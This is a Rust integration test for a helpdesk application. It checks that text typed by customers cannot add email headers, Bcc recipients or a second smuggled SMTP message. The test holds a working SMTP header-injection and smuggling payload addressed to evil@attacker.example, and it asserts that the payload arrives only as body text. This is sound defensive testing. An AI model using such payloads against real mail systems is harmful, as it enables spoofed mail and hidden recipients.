//! Nothing a customer types reaches a mail's header or its envelope. Text built to add a header,
//! a recipient or a second message (SMTP smuggling: a lone `.` line, then new commands) is sent
//! in the escalation form and on the status page; through a real SMTP server it arrives as body
//! text of the one mail it belongs to, and no other mail, recipient or header appears.

mod common;
mod real_smtp;

use std::time::Duration;

use common::{TestApp, ok};
use helpdesk::domain::manager::Role;
use real_smtp::{SmtpServer, free_port};

/// Header, recipient and message injection in one text, as a browser sends line breaks.
const ATTACK: &str = "Hello\r\nBcc: evil@attacker.example\r\nSubject: injected\r\n\r\n.\r\nMAIL FROM:<evil@attacker.example>\r\nRCPT TO:<evil@attacker.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nowned\r\n.\r\nQUIT";

#[tokio::test]
async fn text_built_to_inject_headers_recipients_or_messages_stays_in_the_body() {
    let dir = tempfile::tempdir().unwrap();
    let smtp = SmtpServer::start(dir.path(), free_port(), None);
    let app = TestApp::with_mail(smtp.port).await;
    let mut rita = app
        .signed_in("rita@iims.example", "Rita Admin", Role::Admin)
        .await;
    let (n, link) = app
        .support_escalation(&[
            ("name", "Ann Bcc: evil@attacker.example"),
            ("description", ATTACK),
        ])
        .await;
    let ticket = format!("/console/tickets/{n}");
    rita.get(&ticket).await;
    let revision = rita.page.hidden("revision").unwrap();
    ok(&rita
        .submit(
            &format!("{ticket}/assign"),
            &[("revision", &revision), ("assignee", "me")],
        )
        .await);
    let mut ann = app.customer();
    let page = ann.get(&link).await;
    let csrf = page.hidden_in(&format!("{link}/messages"), "csrf").unwrap();
    let sent = ann
        .post_raw(
            &format!("{link}/messages"),
            &[("csrf", &csrf), ("body", ATTACK)],
        )
        .await;
    assert_eq!(sent.status, 303);

    // Every mail the outbox sent, and no other, once they are all out.
    let sent_count = || async {
        app.count("SELECT COUNT(*) FROM outbox WHERE state = 'sent'")
            .await
    };
    let queued = app.count("SELECT COUNT(*) FROM outbox").await;
    for _ in 0..100 {
        if sent_count().await == queued {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(sent_count().await, queued, "every mail sent");
    let mails = smtp.arrived(queued as usize, Duration::from_secs(10)).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let mails_now = smtp.received();
    assert_eq!(
        mails_now.len(),
        mails.len(),
        "no message beyond those the outbox sent"
    );
    assert!(queued >= 2, "the acknowledgement and Rita's news: {queued}");
    for mail in &mails_now {
        for to in &mail.to {
            assert!(
                to == "ann@example.com" || to == "rita@iims.example",
                "a recipient nobody chose: {to}"
            );
        }
        // As sent, and as a mail program shows it (encoded words decoded).
        let head = mail.head().to_lowercase();
        let shown = mail
            .parsed()
            .headers()
            .iter()
            .map(|h| format!("{}: {:?}", h.name(), h.value()))
            .collect::<Vec<_>>()
            .join("\n")
            .to_lowercase();
        // "bcc:" with its colon: a Message-ID or a MIME boundary is random and may hold "bcc".
        for word in ["attacker", "injected", "smuggled", "bcc:"] {
            assert!(!head.contains(word), "{word} in a header:\n{head}");
            assert!(!shown.contains(word), "{word} in a header:\n{shown}");
        }
    }
    // Ann's message reached Rita whole, as text.
    let to_rita = mails_now
        .iter()
        .find(|m| m.to == ["rita@iims.example"] && m.text().contains("RCPT TO:"))
        .expect("Ann's message, mailed to Rita");
    let text = to_rita.text().replace("\r\n", "\n");
    assert!(
        text.contains(
            "Bcc: evil@attacker.example\nSubject: injected\n\n.\nMAIL FROM:<evil@attacker.example>"
        ),
        "{text}"
    );
}
